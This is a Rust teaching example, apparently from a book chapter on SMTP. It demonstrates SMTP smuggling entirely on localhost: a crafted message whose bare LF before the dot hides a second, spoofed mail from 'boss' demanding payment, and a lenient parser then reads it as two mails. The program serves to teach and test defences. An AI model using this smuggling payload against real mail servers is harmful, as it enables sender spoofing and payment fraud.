//! One mail or two? Two servers read the same bytes.

use std::error::Error;
use std::net::TcpListener;
use std::thread;
use std::time::Duration;

use ch02_concepts::smtp::{Config, Host, Message, Refusal, Side, serve};
use lettre::address::Envelope;
use lettre::transport::smtp::extension::ClientId;
use lettre::{SmtpTransport, Transport};

// ANCHOR: mail
/// What somebody gave to a mail provider to send. One byte is not what it
/// seems: the line before the dot ends with LF, without CR.
const MAIL: &str = "From: mallory@provider.example\r\n\
    Subject: hello\r\n\
    \r\n\
    How are you?\n\
    .\r\n\
    MAIL FROM:<boss@provider.example>\r\n\
    RCPT TO:<postmaster@mail.example>\r\n\
    DATA\r\n\
    From: boss@provider.example\r\n\
    Subject: pay this at once\r\n\
    \r\n\
    Account 31337.\r\n";
// ANCHOR_END: mail

// ANCHOR: lenient
/// The mails in what a client said, as a server finds them that takes any LF
/// for the end of a line: the sender and the text of each.
fn read_leniently(said: &str) -> Vec<(&str, Vec<&str>)> {
    let mut mails = Vec::new();
    let mut from = "";
    let mut lines = said.lines();
    while let Some(line) = lines.next() {
        if let Some(path) = line.strip_prefix("MAIL FROM:") {
            from = path;
        } else if line == "DATA" {
            let text = lines.by_ref().take_while(|line| *line != ".");
            mails.push((from, text.collect()));
        }
    }
    mails
}
// ANCHOR_END: lenient

#[derive(Default)]
struct Desk {
    client_said: Vec<u8>,
    mails: usize,
}

impl Host for Desk {
    fn deliver(&mut self, _: Message) -> Result<(), Refusal> {
        self.mails += 1;
        Ok(())
    }

    fn said(&mut self, side: Side, bytes: &[u8]) {
        if side == Side::Client {
            self.client_said.extend(bytes);
        }
    }
}

/// The provider's side. It knows that the sender is Mallory, and writes that
/// on the envelope.
fn send(port: u16) -> Result<(), Box<dyn Error + Send + Sync>> {
    let from = Some("mallory@provider.example".parse()?);
    let to = vec!["postmaster@mail.example".parse()?];
    let provider = SmtpTransport::builder_dangerous("127.0.0.1")
        .port(port)
        .hello_name(ClientId::Domain("provider.example".to_owned()))
        .timeout(Some(Duration::from_secs(1)))
        .build();
    match provider.send_raw(&Envelope::new(from, to)?, MAIL.as_bytes()) {
        Ok(_) => println!("the provider: sent"),
        Err(error) => println!("the provider: {error}"),
    }
    Ok(())
}

// ANCHOR: main
fn main() -> Result<(), Box<dyn Error + Send + Sync>> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let port = listener.local_addr()?.port();
    let server = thread::spawn(move || {
        let mut config = Config::new("mail.example");
        config.command_timeout = Duration::from_secs(1);
        let mut desk = Desk::default();
        let (stream, _) = listener.accept()?;
        serve(stream, config, &mut desk).map(|()| desk)
    });
    send(port)?;
    let desk = server.join().expect("the server does not panic")?;
    println!("our server: {} mails taken", desk.mails);

    println!("\na server that takes LF for the end of a line, same bytes:");
    for (from, text) in read_leniently(str::from_utf8(&desk.client_said)?) {
        let subject = text.iter().find(|line| line.starts_with("Subject:"));
        println!("mail from {from}, {}", subject.unwrap_or(&"no subject"));
    }
    Ok(())
}
// ANCHOR_END: main
